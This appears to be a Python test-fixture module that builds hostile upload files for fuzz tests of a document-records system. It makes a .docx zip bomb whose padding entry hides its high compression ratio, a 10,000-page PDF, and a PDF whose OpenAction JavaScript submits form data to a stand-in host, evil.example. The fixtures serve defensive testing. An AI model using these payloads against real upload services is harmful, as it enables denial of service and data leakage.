"""Hostile files a dishonest member could upload, made here byte by byte (used by the fuzz tests and bench/)."""

from __future__ import annotations

import io
import os
import zipfile

from records.tests.samples import make_pdf, pdf_from_objects

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def padding_entry_bomb(inflated_mb: int = 280, padding_mb: float = 1.6) -> bytes:
    """A 1.9 MB .docx whose document.xml inflates to 280 MB, hidden behind one incompressible padding entry so
    that the archive as a whole has a harmless compression ratio (about 150 to 1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f"<w:document {W}><w:body>".encode())
            chunk = "<w:p><w:r><w:t>字</w:t></w:r></w:p>".encode() * 30000
            for _index in range(inflated_mb * 1024 * 1024 // len(chunk)):
                part.write(chunk)
            part.write(b"</w:body></w:document>")
        archive.writestr(zipfile.ZipInfo("word/media/padding.bin"), os.urandom(int(padding_mb * 1024 * 1024)),
                         compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


def many_page_pdf(pages: int = 10_000) -> bytes:
    """A small PDF with ten thousand pages that all draw the same little content stream."""
    kids = " ".join(f"{4 + index} 0 R" for index in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
               b"<< /Length 0 >>\nstream\n\nendstream"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages
    return pdf_from_objects(objects)


def javascript_pdf() -> bytes:
    """A text PDF that runs JavaScript when opened (OpenAction) — in a browser's PDF viewer, never here."""
    text = make_pdf("教学反思：学生的表达更有条理了。")
    return text.replace(b"<< /Type /Catalog /Pages 2 0 R >>",
                        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('x'\\);"
                        b"this.submitForm\\('http://evil.example/'\\);) >> >>")


def image_pdf(jpeg: bytes, width: int, height: int) -> bytes:
    """A PDF that is only a picture of its page, as a scanner makes it: no text layer."""
    content = b"q 595 0 0 842 0 0 cm /Im1 Do Q"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> "
               b"/Contents 4 0 R >>",
               b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
               b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 "
               b"/Filter /DCTDecode /Length %d >>\nstream\n" % (width, height, len(jpeg)) + jpeg + b"\nendstream"]
    return pdf_from_objects(objects)
